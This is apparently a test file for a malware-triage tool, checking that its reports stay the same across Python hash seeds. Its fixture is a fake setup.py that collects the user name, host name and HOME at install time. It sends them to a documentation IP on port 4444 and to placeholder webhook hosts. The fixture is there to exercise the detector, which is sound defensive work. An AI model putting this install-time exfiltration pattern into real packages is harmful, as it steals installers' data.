"""Reports do not depend on the interpreter's hash seed (set iteration order).

Each case is analysed in fresh interpreters with different ``PYTHONHASHSEED`` values; the
findings (lines, indicators, confidences, justifications) and the verdict must be identical.
Before the fix, the wrapper call below sent to ``port`` instead of ``ip`` under half the
seeds, and ties between equally strong callees picked a different evidence line.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

CASE = {
    "pkg/setup.py": textwrap.dedent("""\
        import os, socket, getpass, platform, requests
        from setuptools import setup

        def send_string(ip, port, message):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            server_address = (ip, port)
            sock.connect(server_address)
            sock.sendall(message.encode())

        def upload(data):
            requests.post("https://hook.example.invalid/a", data=data)

        def beacon(data):
            requests.post("https://hook.example.invalid/b", data=data)

        def collect():
            info = getpass.getuser() + platform.node()
            upload(info)
            beacon(info)

        send_string("203.0.113.50", 4444, os.environ.get("HOME", ""))
        collect()
        setup(name="demo", version="99.0")
    """),
}

SCRIPT = """
import json, sys
from tests.conftest import make_artifact
from triage.pipeline import Options, explain_artifact
rep = explain_artifact(make_artifact(json.loads(sys.argv[1])), Options())
print(json.dumps([rep.verdict.label, rep.verdict.score, sorted(
    (f.statement_id, f.indicator, f.confidence, f.justification) for f in rep.findings)]))
"""


def _run(seed: int) -> list[object]:
    root = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONHASHSEED": str(seed)}
    out = subprocess.run([sys.executable, "-c", SCRIPT, json.dumps(CASE)], cwd=root, env=env,
                         capture_output=True, text=True, timeout=120, check=True)
    return json.loads(out.stdout)


def test_reports_are_the_same_under_every_hash_seed() -> None:
    runs = [_run(seed) for seed in (0, 1, 2, 3)]
    assert all(r == runs[0] for r in runs[1:])
    label, _score, findings = runs[0]
    assert label == "malicious"
    sent = [f for f in findings if f[0] == "pkg/setup.py:21:0"
            and f[1] == "code_exfiltration_to_malicious_domain"]
    assert sent and "203.0.113[.]50" in sent[0][3]
